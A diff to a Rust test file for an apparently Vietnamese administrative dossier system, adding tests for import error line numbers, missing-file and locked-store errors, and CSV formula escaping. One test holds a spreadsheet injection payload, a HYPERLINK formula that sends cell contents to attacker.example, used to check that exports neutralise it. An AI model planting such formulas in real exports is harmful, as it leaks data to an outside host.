@@ -311,6 +311,7 @@ fn feedback_samples_import_with_every_step() {
         instant("2024-03-04T14:30:00+07:00"),
         cchc::FeedbackKind::Staff,
     )
+    .unwrap()
     .with_transfer(instant("2024-03-05T08:00:00+07:00"))
     .unwrap()
     .with_answer(instant("2024-03-28T16:00:00+07:00"))
@@ -327,6 +328,7 @@ fn feedback_samples_import_with_every_step() {
         instant("2024-03-12T10:30:00+07:00"),
         cchc::FeedbackKind::Staff,
     )
+    .unwrap()
     .with_rejection(instant("2024-03-18T08:00:00+07:00"))
     .unwrap();
     assert_eq!(all.iter().find(|f| f.id() == expected.id()), Some(&expected));
@@ -830,4 +832,102 @@ fn reports_export_as_csv_and_json() {
     assert_eq!(value[0]["report"]["received_online"], 4);
     let back: cchc::OneStopReport = serde_json::from_value(value[1]["report"].clone()).unwrap();
     assert_eq!(back, rows[1].report);
+}
+
+/// Issue 13 item 10: an error names the same line whatever ends the lines. A CRLF
+/// file used to name line 2 for its third line and a CR-only file always line 1.
+#[test]
+fn import_errors_name_the_right_line_whatever_ends_the_lines() {
+    let store = catalogue_store();
+    let lines = [
+        DOSSIER_HEADER.trim_end(),
+        "000.01.21.H49-240304-0001,1.004227,000.01.21.H49,online,2024-03-04T08:15:00+07:00,,",
+        "000.01.21.H49-240304-0002,1.004227,000.01.21.H49,by pigeon,2024-03-04T08:20:00+07:00,,",
+    ];
+    for ending in ["\n", "\r\n", "\r"] {
+        let text = lines.join(ending) + ending;
+        let (_, line, field, _) = import_error(&store, "dossiers.csv", &text);
+        assert_eq!((line, field.as_str()), (3, "channel"), "{ending:?}");
+        // A quoted reason over two lines: the next record starts on line 4.
+        let events = [
+            EVENT_HEADER.trim_end(),
+            "000.01.21.H49-240304-0009,2024-03-05T08:00:00+07:00,refuse,,\"Thiếu:",
+            "- bản sao\",,,",
+            "000.01.21.H49-240304-0009,2024-03-05T09:00:00+07:00,fly,,,,,",
+        ]
+        .join(ending);
+        let (_, line, field, _) = import_error(&store, "events.csv", &events);
+        assert_eq!((line, field.as_str()), (4, "action"), "{ending:?}");
+        let jsonl = [
+            r#"{"code": "000.01.21.H49-240304-0001", "procedure": "1.004227", "agency": "000.01.21.H49", "channel": "online", "received_at": "2024-03-04T08:15:00+07:00"}"#,
+            "",
+            r#"{"code": "000.01.21.H49-240304-0002", "procedure": "1.004227", "agency": "000.01.21.H49", "channel": "pigeon", "received_at": "2024-03-04T08:20:00+07:00"}"#,
+        ]
+        .join(ending);
+        let (_, line, field, _) = import_error(&store, "dossiers.jsonl", &jsonl);
+        assert_eq!((line, field.as_str()), (3, "channel"), "{ending:?}");
+    }
+    assert_eq!(store.dossiers().len(), 0);
+}
+
+/// Issue 13 item 11: a missing file names its path and the reason.
+#[test]
+fn a_missing_import_file_names_its_path() {
+    let store = Store::temporary().unwrap();
+    let path = Path::new("/nonexistent-cchc-dir/agencies.csv");
+    let error = io::import_file(&store, path).unwrap_err();
+    let text = error.to_string();
+    assert!(text.starts_with("/nonexistent-cchc-dir/agencies.csv: cannot open: "), "{text}");
+    assert!(matches!(error, Error::File { action: "open", .. }), "{error:?}");
+}
+
+/// Issue 13 item 6, end to end: an agency named as a formula is imported, reported
+/// under its name, and comes out of the CSV as text.
+#[test]
+fn an_agency_named_as_a_formula_comes_out_of_the_report_csv_as_text() {
+    let store = Store::temporary().unwrap();
+    let name = r#"=HYPERLINK("http://attacker.example/?x="&A2,"x")"#;
+    let agencies =
+        format!("code,name,kind\n000.00.00.H49,\"{}\",province\n", name.replace('"', "\"\""));
+    io::import_reader(
+        &store,
+        agencies.as_bytes(),
+        "agencies.csv",
+        Format::Csv,
+        RecordType::Agencies,
+        1,
+    )
+    .unwrap();
+    let province = store.agencies().get(&cchc::AgencyCode::new("000.00.00.H49").unwrap()).unwrap();
+    let province = province.unwrap();
+    assert_eq!(province.name(), name);
+    let row = io::report::ReportRow {
+        scope: province.name().to_owned(),
+        report: store
+            .report(&Scope::subtree(province.code()), Period::year(2024).unwrap())
+            .unwrap(),
+    };
+    let mut out = Vec::new();
+    io::report::write_csv(&mut out, &[row]).unwrap();
+    let mut reader = csv::Reader::from_reader(out.as_slice());
+    let record = reader.records().next().unwrap().unwrap();
+    assert_eq!(&record[0], format!("'{name}"));
+    assert_eq!(&record[4], "0");
+}
+
+/// Issue 13 item 11: a store held by another handle names the path and the reason
+/// (it printed only `storage error`).
+#[test]
+fn a_store_held_elsewhere_names_its_path_and_the_reason() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("held");
+    let _first = Store::open(&path).unwrap();
+    let error = match Store::open(&path) {
+        Err(e) => e,
+        Ok(_) => panic!("a second handle opened a held store"),
+    };
+    let text = error.to_string();
+    assert!(matches!(error, Error::Storage(_)), "{error:?}");
+    assert!(text.contains("could not acquire lock"), "{text}");
+    assert!(text.contains(&path.display().to_string()), "{text}");
 }
